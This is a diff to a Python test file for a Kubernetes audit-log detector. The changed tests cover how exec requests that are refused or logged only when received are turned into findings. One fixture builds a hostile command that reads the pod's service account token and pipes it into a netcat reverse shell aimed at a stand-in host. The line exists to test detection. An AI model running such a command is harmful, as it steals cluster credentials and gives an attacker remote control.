@@ -9,10 +9,8 @@ health checks, a download saved to a file.
 
 from __future__ import annotations
 
-from datetime import datetime, timedelta
-
 import pytest
-from test_rules_helpers import T0, exec_ev
+from test_rules_helpers import exec_ev
 
 from detector.events.normalize import events_from_dicts
 from detector.rules import evaluate_rules, load_ruleset
@@ -165,37 +163,64 @@ def test_a_huge_hostile_body_is_read_the_same_every_time():
 def test_a_refused_exec_logged_at_request_received_too_is_not_a_session(ruleset):
     """A log that records RequestReceived has a row with no response for each request; an
     exec refused with 403 (or of a pod that does not exist, 404) matched ``not_failed``
-    there and was reported as a session that opened (found by review). A request whose
-    only row is RequestReceived is still judged on it."""
+    there and was reported as a session that opened (found by review). Where the log
+    records a later stage, RequestReceived rows stand in for nothing, also when the later
+    row is past the range's end; where it records none, they are counted."""
     command = shell("cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc -e sh x 1")
 
-    def logged(audit_id: str, *stages: tuple[str, int], at: datetime = T0) -> list[dict]:
+    def logged(audit_id: str, *stages: tuple[str, int]) -> list[dict]:
         rows = []
         for stage, code in stages:
-            row = exec_ev(command, audit_id=audit_id, stage=stage, code=code, at=at)
-            if stage == "RequestReceived":
+            row = exec_ev(command, audit_id=audit_id, stage=stage, code=code)
+            if stage == "RequestReceived":  # logged as it arrives: no response yet
                 del row["responseStatus"]
+                row["stageTimestamp"] = row["requestReceivedTimestamp"]
             rows.append(row)
         return rows
 
     refused = logged("refused", ("RequestReceived", 0), ("ResponseComplete", 403))
     missing = logged("missing", ("RequestReceived", 0), ("ResponseComplete", 404))
     opened = logged("opened", ("RequestReceived", 0), ("ResponseStarted", 101))
-    # received after the range's first event (one received before it and logged at no
-    # later stage is taken as counted in the range before)
-    only_received = logged("only", ("RequestReceived", 0), at=T0 + timedelta(minutes=1))
     for rule in ("exec-credential-read", "exec-reverse-shell"):
         frame = events_from_dicts(refused + missing, cluster="t")
         assert evaluate_rules(frame, ruleset.only(rule)).findings.is_empty()
-        frame = events_from_dicts(opened + only_received, cluster="t")
+        frame = events_from_dicts(opened, cluster="t")
         links = evaluate_rules(frame, ruleset.only(rule)).events
-        assert sorted(zip(links["audit_id"], links["stage"], strict=True)) == [
-            ("only", "RequestReceived"),
-            ("opened", "ResponseStarted"),
-        ]
-    frame = events_from_dicts(refused, cluster="t")
-    (reasons,) = evaluate_rules(frame, ruleset.only("pod-exec")).findings["reasons"]
+        assert links.select("audit_id", "stage").rows() == [("opened", "ResponseStarted")]
+    rule = ruleset.only("exec-credential-read")
+    # The range ends between the two rows: its history shows the log records the rest.
+    cut = events_from_dicts(refused[:1], cluster="t")
+    week = events_from_dicts(opened, cluster="t")
+    assert evaluate_rules(cut, rule, history=week).findings.is_empty()
+    # A log that records RequestReceived alone: its rows are all there is.
+    assert evaluate_rules(cut, rule).findings.height == 1
+    (reasons,) = evaluate_rules(
+        events_from_dicts(refused, cluster="t"), ruleset.only("pod-exec")
+    ).findings["reasons"]
     assert "denied, HTTP 403" in reasons[0]
+
+
+def test_a_rule_counting_request_received_alone_still_sees_it(tmp_path):
+    """A user rule of stages [RequestReceived] fired on nothing once requests had a later
+    row (found by review)."""
+    path = tmp_path / "mine.yaml"
+    path.write_text("""
+- rule: exec-asked
+  title: Exec asked for
+  severity: low
+  tactic: Execution
+  technique: T1609
+  description: Every exec request as it arrives.
+  condition: resource = pods and subresource = exec
+  stages: [RequestReceived]
+  references: [https://kubernetes.io/docs/reference/config-api/apiserver-audit.v1/]
+""")
+    rules = load_ruleset([str(path)]).only("exec-asked")
+    rows = [
+        exec_ev(["sh"], audit_id="a", stage=st) for st in ("RequestReceived", "ResponseStarted")
+    ]
+    found = evaluate_rules(events_from_dicts(rows, cluster="t"), rules).events
+    assert found.select("audit_id", "stage").rows() == [("a", "RequestReceived")]
 
 
 @pytest.mark.parametrize(
